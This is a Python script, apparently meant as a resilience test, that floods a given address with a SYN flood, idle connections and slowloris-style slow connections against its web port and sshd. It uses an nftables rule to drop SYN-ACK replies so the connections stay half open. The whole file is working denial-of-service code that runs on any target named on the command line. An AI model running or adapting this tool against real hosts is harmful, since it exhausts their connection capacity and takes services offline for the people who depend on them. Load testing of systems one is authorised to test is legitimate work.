"""What one address can do against all: flood.py ADDRESS SECONDS, run on another host. Ends by itself.

20,000 connections that are half open, 2,000 that say nothing, and 1,000 that say a byte a second, to the front; and to
sshd 2,000 that are half open and 200 that say nothing.
"""

import contextlib
import errno
import itertools
import json
import resource
import socket
import subprocess
import sys
import time

ADDRESS, SECONDS = sys.argv[1], float(sys.argv[2])
FRONT, SSH = 80, 22
# Answers to a connection from these ports are dropped here, so that they stay half open there.
HALF_OPEN = range(10_000, 60_000)
RULES = """
table ip half_open
delete table ip half_open
table ip half_open {
    chain input {
        type filter hook input priority -10;
        ip saddr %s tcp dport 10000-59999 tcp flags & (syn | ack) == (syn | ack) drop
    }
}
"""


def begin(port, source=0):
    """Begin a connection; None if this host itself has no more of them."""
    client = socket.socket()
    client.setblocking(False)
    try:
        if source:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            client.bind(("", source))
        if client.connect_ex((ADDRESS, port)) in (0, errno.EINPROGRESS):
            return client
    except OSError:
        pass
    client.close()
    return None


def half_open(port, count, sources):
    """Send so many SYNs and forget them."""
    sent = 0
    for source in itertools.islice(sources, count):
        if client := begin(port, source):
            sent += 1
            client.close()
    return sent


def main():
    """Do all of it, and say what became of it."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    subprocess.run(["nft", "-f", "-"], input=RULES % ADDRESS, text=True, check=True)
    end = time.monotonic() + SECONDS
    sources = iter(HALF_OPEN)
    said = {"half open": 0, "half open to ssh": 0}
    idle = [begin(FRONT, source) for source in range(1100, 3100)] + [begin(SSH, source) for source in range(3100, 3300)]
    slow = [begin(FRONT, source) for source in range(3300, 4300)]
    while time.monotonic() < end:
        said["half open"] += half_open(FRONT, min(2000, 20_000 - said["half open"]), sources)
        said["half open to ssh"] += half_open(SSH, min(200, 2_000 - said["half open to ssh"]), sources)
        for client in filter(None, slow):
            with contextlib.suppress(OSError):
                client.send(b"G")
        time.sleep(1)

    def alive(clients):
        count = 0
        for client in filter(None, clients):
            with contextlib.suppress(OSError):
                client.getpeername()
                count += 1
        return count

    said |= {"idle": len(idle), "idle, connected": alive(idle), "slow": len(slow), "slow, connected": alive(slow)}
    subprocess.run(["nft", "delete", "table", "ip", "half_open"], check=True)
    print(json.dumps(said))


main()
